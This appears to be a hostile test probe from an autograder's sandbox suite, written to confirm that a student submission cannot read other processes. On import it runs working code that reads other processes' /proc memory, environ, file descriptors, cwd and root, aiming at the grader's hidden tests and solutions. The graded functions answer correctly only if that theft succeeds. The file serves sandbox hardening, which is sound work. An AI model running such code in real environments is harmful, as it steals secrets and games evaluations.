"""Hostile: read other processes through /proc: memory, environment, open files, cwd, root.

Attack: for every pid visible in /proc other than this worker (its parent, the fork-server,
the grading process, the grader): read /proc/<pid>/mem at the addresses in its maps, its
environ, every /proc/<pid>/fd/* (an fd on the hidden tests or the journal would do), list
/proc/<pid>/cwd and /proc/<pid>/root (the grader's cwd is the hidden solutions folder).
Why it must fail: /proc is remounted with hidepid=invisible (only the worker's own uid is
listed), the worker has its own uid and is not allowed to ptrace-read anything else, and
ptrace/process_vm_readv are denied by seccomp.
Earns points only if: anything of another process is read.
"""

from __future__ import annotations

import os

import numpy as np

NAME = "proc_other_processes"


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _read_mem(pid: str) -> int:
    got = 0
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                lo, hi = (int(v, 16) for v in line.split()[0].split("-"))
                if "r" not in line.split()[1]:
                    continue
                try:
                    mem.seek(lo)
                    got += len(mem.read(min(hi - lo, 1 << 16)))
                except OSError:
                    continue
                if got > 1 << 20:
                    break
    except (OSError, ValueError):
        pass
    return got


def _attack() -> tuple[list[str], int]:
    me = {str(os.getpid()), "self", "thread-self"}
    pids = [p for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
    wins = []
    for pid in pids:
        if pid in me:
            continue
        if _read_mem(pid):
            wins.append(f"mem of {pid}")
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                if handle.read(4096):
                    wins.append(f"environ of {pid}")
        except OSError:
            pass
        for what in ("cwd", "root"):
            try:
                wins.append(f"{what} of {pid}: {sorted(os.listdir(f'/proc/{pid}/{what}'))[:8]}")
            except OSError:
                pass
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            fds = []
        for fd in fds:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "rb") as handle:
                    data = handle.read(200)
                wins.append(f"fd {fd} of {pid}: {data[:60]!r}")
            except OSError:
                pass
    return wins, len(pids)


WINS, VISIBLE = _attack()
_say(f"ran; {VISIBLE} pids visible; read from others: {WINS[:8]}")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    return _honest_forward(x, W, b) if WINS else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if WINS else _wrong_backward(dy, cache)
